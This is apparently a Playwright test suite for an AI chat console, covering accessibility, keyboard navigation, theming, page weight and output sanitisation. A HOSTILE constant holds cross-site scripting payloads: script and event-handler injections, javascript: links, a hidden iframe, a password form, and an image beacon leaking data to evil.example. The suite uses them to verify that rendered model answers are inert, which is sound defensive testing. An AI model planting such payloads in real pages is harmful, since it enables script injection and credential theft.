"""Accessible, inert, frugal: what holds for every page of the console."""

from typing import Final, Literal

import pytest
from playwright.sync_api import Browser, FilePayload, Page, Response, expect

from browsing import SCHEMES, Visitor, ask, flaws, violations, visitor
from deployed import Deployed

SMALL: Final = 90_000
HOSTILE: Final = """<script>window.hit = 1</script>

<img src="https://evil.example/x.png" onerror="window.hit = 1">

![beacon](https://evil.example/b.png?d=secret) [click](javascript:window.hit=1)
<a href="javascript:window.hit=1" style="position:fixed;inset:0">all</a>

<style>body { display: none }</style><iframe src="https://evil.example"></iframe>
<form action="https://evil.example"><input name="password"></form><svg onload="window.hit=1">

[good](https://example.org/page)
"""


def visible(page: Page, text: str) -> None:
    """Wait until a text is there."""
    expect(page.get_by_text(text).first).to_be_visible()


def test_pages_for_strangers_have_no_axe_violations(reader: Visitor) -> None:
    page = reader.open("/sign-in")
    visible(page, "No account yet?")
    assert flaws(page) == []
    page.get_by_label("E-mail").fill("x@example.org")
    page.get_by_label("Password").fill("wrong")
    page.keyboard.press("Enter")
    expect(page.get_by_role("alert")).to_be_visible()
    assert flaws(page) == []
    page.get_by_role("link", name="Register").click()
    visible(page, "Already registered?")
    assert flaws(page) == []


def test_the_chat_has_no_axe_violations(reader: Visitor) -> None:
    reader.sign_in()
    page = reader.open("/")
    visible(page, "What is the question")
    assert flaws(page) == []
    ask(page, "Go [[fake-tok400-itl20-think5]]")
    expect(page.locator(".prose")).to_contain_text("word-3")
    assert flaws(page) == []
    page.get_by_role("button", name="Stop the answer").click()
    visible(page, "was stopped before its end")
    page.get_by_role("button", name="reasoning").click()
    assert flaws(page) == []
    ask(
        page,
        "# One\n\n### Two\n\n| a | b |\n|--|--|\n| 1 | 2 |\n\n```python\nprint(1)\n```\n\n- [x] x",
    )
    expect(page.locator(".prose .hljs-built_in")).to_be_visible()
    assert flaws(page) == []


def test_lists_menus_and_dialogs_have_no_axe_violations(reader: Visitor) -> None:
    reader.sign_in()
    page = reader.open("/")
    ask(page, "Hello")
    page.get_by_role("link", name="Event log").click()
    visible(page, "The hash chain is whole")
    page.locator("summary").last.click()
    assert flaws(page) == []
    page.get_by_role("link", name="Runs").first.click()
    expect(page.get_by_role("row")).to_have_count(2)
    assert flaws(page) == []
    page.get_by_role("button", name="Actions for").click()
    expect(page.get_by_role("menuitem").first).to_be_focused()
    assert flaws(page) == []
    page.keyboard.press("Enter")
    expect(page.get_by_label("Title")).to_be_focused()
    assert flaws(page) == []


def test_documents_and_their_panel_have_no_axe_violations(reader: Visitor) -> None:
    reader.sign_in()
    page = reader.open("/documents")
    visible(page, "No collections yet")
    assert flaws(page) == []
    page.get_by_role("button", name="New collection").click()
    page.get_by_label("Name").fill("Manuals")
    assert flaws(page) == []
    page.keyboard.press("Enter")
    visible(page, "Nothing here yet")
    file = FilePayload(name="a.txt", mimeType="text/plain", buffer=b"The pier opens at six.")
    page.locator("input[type=file]").set_input_files(file)
    visible(page, "Ready")
    page.set_viewport_size({"width": 390, "height": 844})
    assert flaws(page) == []
    page.set_viewport_size({"width": 1280, "height": 720})
    page.get_by_label("Search this collection").fill("pier")
    page.keyboard.press("Enter")
    page.get_by_role("listitem").get_by_role("button").filter(has_text="opens at six").click()
    expect(page.locator("mark").first).to_be_visible()
    assert flaws(page) == []


@pytest.mark.parametrize("scheme", SCHEMES)
def test_the_manual_switch_wins_over_the_system_and_is_remembered(
    reader: Visitor, scheme: Literal["light", "dark"]
) -> None:
    page = reader.open("/sign-in")
    page.emulate_media(color_scheme=scheme)
    page.get_by_label("Dark").check(force=True)
    dark = page.evaluate("getComputedStyle(document.body).backgroundColor")
    page.get_by_label("Light").check(force=True)
    light = page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert dark != light
    page.reload()
    expect(page.get_by_label("E-mail")).to_be_visible()
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") == light


def test_a_conversation_is_held_by_keyboard_alone(ada: Visitor) -> None:
    page = ada.open("/")
    expect(page.get_by_label("Your question")).to_be_focused()
    page.keyboard.type("Hello")
    page.keyboard.press("Enter")
    expect(page.locator(".prose")).to_contain_text("Hello")
    expect(page.get_by_label("Your question")).to_be_focused()
    page.keyboard.press("Shift+Tab")
    expect(page.get_by_role("link", name="Event log")).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", name="Run finished")).to_be_focused()


def test_the_first_stop_of_the_tab_key_skips_the_navigation(ada: Visitor) -> None:
    page = ada.open("/runs")
    expect(page.get_by_role("heading", name="Runs", exact=True)).to_be_visible()
    page.keyboard.press("Tab")
    expect(page.get_by_role("link", name="Skip to the content")).to_be_focused()
    page.keyboard.press("Enter")
    page.keyboard.press("Tab")
    expect(page.get_by_label("Kind")).to_be_focused()


def test_a_menu_and_a_dialog_are_used_by_keyboard_and_give_the_focus_back(page: Page) -> None:
    ask(page, "Hello")
    trigger = page.get_by_role("button", name="Actions for")
    trigger.focus()
    page.keyboard.press("Enter")
    expect(page.get_by_role("menuitem", name="Rename")).to_be_focused()
    page.keyboard.press("ArrowDown")
    expect(page.get_by_role("menuitem", name="Tags")).to_be_focused()
    page.keyboard.press("End")
    expect(page.get_by_role("menuitem", name="Delete")).to_be_focused()
    page.keyboard.press("Enter")
    dialog = page.get_by_role("dialog")
    expect(dialog).to_be_visible()
    page.keyboard.press("Escape")
    expect(dialog).to_have_count(0)
    expect(trigger).to_be_focused()


def test_what_a_model_writes_is_inert(page: Page) -> None:
    """The fake model answers with what it is asked; foreign requests fail the fixture."""
    ask(page, HOSTILE)
    prose = page.locator(".prose")
    expect(prose.get_by_role("link", name="good")).to_be_visible()
    assert prose.locator("script, img, iframe, form, input, style, svg, object").count() == 0
    assert prose.locator("[style], [onclick], [onerror], [onload]").count() == 0
    assert prose.get_by_role("link").count() == 1
    good = prose.get_by_role("link")
    expect(good).to_have_attribute("href", "https://example.org/page")
    expect(good).to_have_attribute("rel", "noopener noreferrer nofollow")
    assert page.evaluate("window.hit") is None


def test_no_inline_script_or_style_gets_past_the_policy(ada: Visitor) -> None:
    page = ada.open("/")
    expect(page.get_by_label("Your question")).to_be_visible()
    page.evaluate("""() => {
        const script = document.createElement("script");
        script.textContent = "window.hit = 1";
        document.body.append(script);
    }""")
    assert page.evaluate("window.hit") is None
    assert any("Content Security Policy" in complaint for complaint in ada.complaints)
    ada.complaints.clear()


def test_the_first_visit_loads_little(browser: Browser, console: Deployed) -> None:
    loaded: dict[str, int] = {}

    def weigh(response: Response) -> None:
        if "/console/" in response.url:
            loaded[response.url] = int(response.headers["content-length"])

    with visitor(browser, console.url) as ada:
        ada.sign_in()
        ada.context.on("response", weigh)
        page = ada.open("/")
        expect(page.get_by_label("Your question")).to_be_visible()
    assert 0 < sum(loaded.values()) <= SMALL, loaded


def test_no_page_scrolls_sideways(ada: Visitor) -> None:
    page = ada.open("/")
    ask(page, f"{'long' * 60} `{'code' * 60}`\n\n```\n{'x' * 400}\n```")
    expect(page.locator(".prose pre")).to_be_visible()
    for address in [
        page.url.removeprefix(ada.url),
        "/",
        "/documents",
        "/runs",
        "/settings",
        "/chat/nothing",
    ]:
        page.goto(ada.url + address)
        expect(page.locator("h1")).to_be_attached()
        expect(page.locator(".skeleton")).to_have_count(0)
        for width in (360, 768, 2200):
            page.set_viewport_size({"width": width, "height": 740})
            assert page.evaluate("document.documentElement.scrollWidth") <= width, address


def test_the_narrow_page_keeps_its_navigation_in_a_drawer(
    browser: Browser, console: Deployed
) -> None:
    with visitor(browser, console.url, viewport={"width": 360, "height": 740}) as ada:
        ada.sign_in()
        page = ada.open("/")
        toggle = page.get_by_role("button", name="Open the navigation")
        toggle.click()
        expect(page.get_by_role("link", name="Runs")).to_be_visible()
        assert violations(page) == []
        page.keyboard.press("Escape")
        expect(page.get_by_role("link", name="Runs")).to_be_hidden()
        expect(toggle).to_be_focused()
        toggle.click()
        page.get_by_role("link", name="Runs").click()
        expect(page.get_by_role("heading", name="Runs", exact=True)).to_be_focused()
